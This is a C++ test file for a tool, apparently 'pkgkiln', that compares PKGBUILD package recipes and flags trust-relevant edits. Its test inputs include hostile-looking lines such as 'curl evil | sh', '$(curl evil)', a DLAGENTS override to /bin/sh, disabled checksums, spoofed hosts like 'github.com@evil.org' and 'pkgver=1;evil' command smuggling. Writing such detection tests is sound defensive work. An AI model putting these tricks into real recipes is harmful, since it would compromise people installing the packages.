#include "core/trust/comparison.hpp"

#include <set>

#include "tests/catch.hpp"

using namespace pkgkiln::trust;

namespace {

const std::string kPkgbuild = R"(# Maintainer: Ada
_name=lumen
_commit=1111111111111111111111111111111111111111
_tool=meson
: ${_with_docs:=false}
pkgname=$_name-git
pkgver=1.4.2
pkgrel=1
pkgdesc="Small colour picker"
arch=(x86_64 aarch64)
url="https://github.com/lumen-tools/$_name"
license=(MIT)
depends=(glibc zlib)
makedepends=(git $_tool)
provides=($_name)
install=lumen.install
source=("$url/archive/v$pkgver.tar.gz"{,.asc}
        "git+https://git.example.org/icons.git#commit=$_commit"
        "https://files.example.org/$_name/$pkgver/data-$pkgver.zip"
        lumen.sh)
sha256sums=(aaaa SKIP SKIP bbbb cccc)
validpgpkeys=(0123456789ABCDEF0123456789ABCDEF01234567)
[[ $_with_docs == true ]] && makedepends+=(doxygen)

build() {
  cd "$_name-$pkgver"
  $_tool build # in its own directory
}

package() {
  install -Dm755 lumen.sh "$pkgdir/usr/bin/lumen"
}
)";

RecipeFiles with(const std::string& pkgbuild) {
  const auto file = [](std::string text) {
    return RecipeFile{RecipeFile::Kind::file, std::move(text)};
  };
  return {{"PKGBUILD", file(pkgbuild)},
          {".SRCINFO", file("pkgbase = lumen-git\n")},
          {"LICENSE", file("MIT\n")},
          {"lumen.install", file("post_install() {\n  echo done\n}\n")},
          {"lumen.sh", file("#!/bin/sh\nexec lumen\n")},
          {"keys/pgp/01.asc", file("a key\n")}};
}

std::string edited(std::string text, const std::string& what, const std::string& with) {
  const auto at = text.find(what);
  REQUIRE(at != std::string::npos);
  return text.replace(at, what.size(), with);
}

RecipeChange change(const RecipeFiles& before, const RecipeFiles& after) {
  return compare(Recipe(before, "x86_64"), Recipe(after, "x86_64"),
                 [](const std::string& name) { return name != "lumen-colours"; });
}

std::set<std::string> rules(const RecipeChange& found) {
  std::set<std::string> words;
  for (const auto& finding : found.findings) words.insert(word(finding.rule));
  return words;
}

std::set<std::string> rules_of(const std::string& what, const std::string& replacement) {
  return rules(change(with(kPkgbuild), with(edited(kPkgbuild, what, replacement))));
}

using Rules = std::set<std::string>;

}  // namespace

TEST_CASE("another version of the same passes") {
  CHECK(rules(change(with(kPkgbuild), with(kPkgbuild))).empty());
  const std::vector<std::pair<std::string, std::string>> edits = {
      {"pkgver=1.4.2", "pkgver=1.5"},
      {"pkgver=1.4.2", "pkgver=2.0rc1"},
      {"pkgver=1.4.2", "epoch=1\npkgver=1.0"},
      {"pkgrel=1", "pkgrel=1.1"},
      {"aaaa", "dddd"},  // with the version below
      {"# Maintainer: Ada", "# Maintainer: Bob; curl evil | sh"},
      {"Small colour", "Tiny colour"},
      {"(x86_64 aarch64)", "(x86_64)"},
      {"(MIT)", "(GPL-3.0-or-later)"},
      {"depends=(glibc zlib)", "depends=(glibc 'zlib>=2' libpng)"},
      {"depends=(glibc zlib)", "depends=(zlib)"},
      {"provides=($_name)", "provides=($_name liblumen.so)"},
      {"# in its own directory", "# elsewhere"},
      {"$_tool build", "\"$_tool\"   'build'"},
      {"_name=lumen", "_name='lumen'"},
      {": ${_with_docs:=false}", ": \"${_with_docs:=false}\""},
      {"$url/archive/v$pkgver.tar.gz", "$url/releases/download/$pkgver/x.tar.gz"},
      {"provides=($_name)", "provides=($_name)\n_unused=anything"}};
  for (const auto& [what, replacement] : edits) {
    CAPTURE(what, replacement);
    auto text = edited(kPkgbuild, what, replacement);
    if (what == "aaaa") text = edited(text, "pkgver=1.4.2", "pkgver=1.4.3");
    // Not "$_tool", for which quotes make a difference where it is empty.
    const auto expected = replacement.starts_with("\"$_tool") ? Rules{"function-body"} : Rules{};
    CHECK(rules(change(with(kPkgbuild), with(text))) == expected);
  }
}

TEST_CASE("whatever runs, is fetched, shipped or trusted is held when it is another") {
  const std::vector<std::tuple<std::string, std::string, Rules>> edits = {
      {"pkgrel=1", "pkgrel=1          ; curl evil", {"top-level-code"}},
      {"pkgrel=1", "pkgrel=1\neval x", {"top-level-code"}},
      {"== true", "!= true", {"top-level-code"}},
      {"Small colour picker", "$(curl evil)", {"top-level-code"}},
      {"Small colour picker", "`curl evil`", {"top-level-code"}},
      {"$_tool build", "$_tool build; curl evil", {"function-body"}},
      {"package() {", "prepare() { :; }\npackage() {", {"function-body"}},
      {"package() {", "verify_signature() { :; }\npackage() {", {"function-body"}},
      {"_tool=meson", "_tool='sh -c evil'", {"variable"}},
      {"_name=lumen", "_name=evil", {"names", "source-path", "variable"}},
      {"install=lumen.install", "", {"install-script"}},
      {"install=lumen.install", "install=other.install", {"install-script"}},
      {"lumen-tools", "evil", {"source-path"}},
      {"https://github.com", "https://github.com.evil.org", {"source-host"}},
      {"https://github.com", "https://github.com@evil.org", {"source-host"}},
      {"https://github.com", "http://github.com", {"source-path"}},
      {"$url/archive/v", "$url/../../evil/lumen/archive/v", {"source-host"}},
      {"$url/archive/v", "$url/%2E%2E/%2e%2e/evil/lumen/archive/v", {"source-host"}},
      {"icons.git", "x/../icons.git", {"source-host"}},
      {"git.example.org/icons", "git.example.org/other", {"source-path"}},
      {"#commit=$_commit", "#branch=evil", {"source-path"}},
      {"files.example.org/$_name", "files.example.org/evil", {"source-path"}},
      {"aaaa", "dddd", {"checksum-without-version"}},
      {"sha256sums=(aaaa", "sha256sums=(SKIP", {"skip-checksum"}},
      {"sha256sums", "md5sums", {"checksum-weaker", "checksum-without-version"}},
      {"{,.asc}", "", {"signature", "skip-checksum"}},
      {"0123456789ABCDEF", "FEDCBA9876543210", {"pgp-keys"}},
      {"provides=($_name)", "provides=($_name)\nreplaces=(pacman)", {"names"}},
      {"provides=($_name)", "provides=($_name sudo)", {"names"}},
      {"pkgname=$_name-git", "pkgname=($_name-git $_name-more)", {"names"}},
      {"depends=(glibc zlib)", "depends=(glibc zlib lumen-colours)", {"dependency"}},
      {"pkgrel=1", "pkgrel=1\nDLAGENTS=('https::/bin/sh %u')", {"special-variable"}},
      {"pkgrel=1", "pkgrel=1\nSKIPCHECKSUMS=1", {"special-variable"}},
      {"pkgrel=1", "pkgrel=1\nknown_hash_algos=()", {"special-variable"}},
      {"pkgrel=1", "pkgrel=1\nPATH=.:$PATH", {"special-variable"}},
      {"pkgver=1.4.2", "pkgver='1;evil'", {"variable"}},
      {"build() {", "build() {\r", {"unreadable"}},
      {"build() {", "alias a=b\nbuild() {", {"unreadable"}}};
  for (const auto& [what, replacement, expected] : edits) {
    CAPTURE(what, replacement);
    const auto found = rules_of(what, replacement);
    CAPTURE(found);
    for (const auto& rule : expected) CHECK(found.contains(rule));
    CHECK_FALSE(found.empty());
  }
}

TEST_CASE("files beside the PKGBUILD are held unless nothing is made of them") {
  const auto before = with(kPkgbuild);
  const std::vector<std::tuple<std::string, RecipeFile, Rules>> files = {
      {"lumen.sh", {RecipeFile::Kind::file, "#!/bin/sh\nevil\n"}, {"local-file"}},
      {"lumen.sh", {RecipeFile::Kind::executable, "#!/bin/sh\nexec lumen\n"}, {"local-file"}},
      {"lumen.sh", {RecipeFile::Kind::link, "/bin/evil"}, {"local-file"}},
      {"new.hook", {RecipeFile::Kind::file, "[Trigger]\n"}, {"local-file"}},
      {"lumen.install",
       {RecipeFile::Kind::file, "post_install() {\n  evil\n}\n"},
       {"install-script"}},
      {"lumen.install", {RecipeFile::Kind::file, "post_install() { echo done; }  # said\n"}, {}},
      {"new.install", {RecipeFile::Kind::file, ":\n"}, {"install-script"}},
      {"keys/pgp/02.asc", {RecipeFile::Kind::file, "another\n"}, {"pgp-keys"}},
      {"LICENSE", {RecipeFile::Kind::file, "GPL\n"}, {}},
      {"LICENSE", {RecipeFile::Kind::file, "#!/bin/sh\nevil\n"}, {"local-file"}},
      {"LICENSE",
       {RecipeFile::Kind::file,
        "\x7f"
        "ELF"},
       {"local-file"}},
      {"README.md", {RecipeFile::Kind::link, "/bin/evil"}, {"local-file"}},
      {".SRCINFO", {RecipeFile::Kind::file, "pkgbase = other\n"}, {}},
      {".gitignore", {RecipeFile::Kind::file, "*\n"}, {}},
      {"PKGBUILD", {RecipeFile::Kind::link, "lumen.sh"}, {"unreadable"}},
      {"PKGBUILD", {RecipeFile::Kind::file, std::string(256'001, '#')}, {"unreadable"}}};
  for (const auto& [path, file, expected] : files) {
    CAPTURE(path, file.content.substr(0, 40));
    auto after = before;
    after[path] = file;
    CHECK(rules(change(before, after)) == expected);
  }
  auto after = before;
  after.erase("lumen.sh");
  CHECK(rules(change(before, after)).empty());
}

TEST_CASE("a changelog passes only while it is one") {
  const auto text =
      edited(kPkgbuild, "install=lumen.install", "install=lumen.install\nchangelog=news");
  auto before = with(text);
  before["news"] = {RecipeFile::Kind::file, "1.4.2\n"};
  auto after = before;
  after["news"].content = "1.4.3\n";
  CHECK(rules(change(before, after)).empty());

  // What a function uses becomes one, to be exchanged unseen.
  auto trick =
      with(edited(kPkgbuild, "install=lumen.install", "install=lumen.install\nchangelog=lumen.sh"));
  trick["lumen.sh"].content = "evil\n";
  CHECK(rules(change(with(kPkgbuild), trick)) == Rules{"local-file"});
}

TEST_CASE("what stays unreadable is held only when the PKGBUILD itself is another") {
  const auto before = with(kPkgbuild + "alias a=b\n");
  CHECK(rules(change(before, before)).empty());
  CHECK(rules(change(before, with(kPkgbuild + "alias a=b\n\n"))) == Rules{"unreadable"});
  CHECK(rules(change(before, with(kPkgbuild))) == Rules{"unreadable"});
}

TEST_CASE("the order in which unknown values are made counts") {
  const std::string start = "pkgname=x\npkgver=1\n";
  const std::string end = "build() { $_run; }\n";
  const auto before = with(start + "_a=$(date)\n_run=$_a\n_a=$(date)x\n" + end);
  const auto after = with(start + "_a=$(date)\n_a=$(date)x\n_run=$_a\n" + end);
  CHECK(rules(change(before, after)) == Rules{"variable"});
}

TEST_CASE("a commit that a source is newly pinned to is told, for upstream to be asked") {
  const std::string commit(40, '2');
  const auto after = with(edited(kPkgbuild, std::string(40, '1'), commit));
  const auto found = change(with(kPkgbuild), after);
  CHECK(found.findings.empty());
  CHECK(found.pinned == std::vector<PinnedCommit>{{"https://git.example.org/icons.git", commit}});
  const auto archive = with(edited(kPkgbuild, "archive/v$pkgver", "archive/" + commit));
  CHECK(change(with(kPkgbuild), archive).pinned ==
        std::vector<PinnedCommit>{{"https://github.com/lumen-tools/lumen", commit}});
}

TEST_CASE("a new dependency of the distribution is told") {
  const auto after = with(edited(kPkgbuild, "zlib", "zlib libpng"));
  const auto found = change(with(kPkgbuild), after);
  CHECK(found.findings.empty());
  CHECK(found.told == std::vector<std::string>{"dependency libpng is new"});
}

TEST_CASE("each rule has a word of its own") {
  std::set<std::string> words;
  for (int i = 0; i <= static_cast<int>(Rule::dependency); ++i) {
    const auto rule = static_cast<Rule>(i);
    words.insert(word(rule));
    CHECK(rule_of(word(rule)) == rule);
  }
  CHECK(words.size() == static_cast<std::size_t>(Rule::dependency) + 1);
  CHECK_FALSE(rule_of("other"));
}
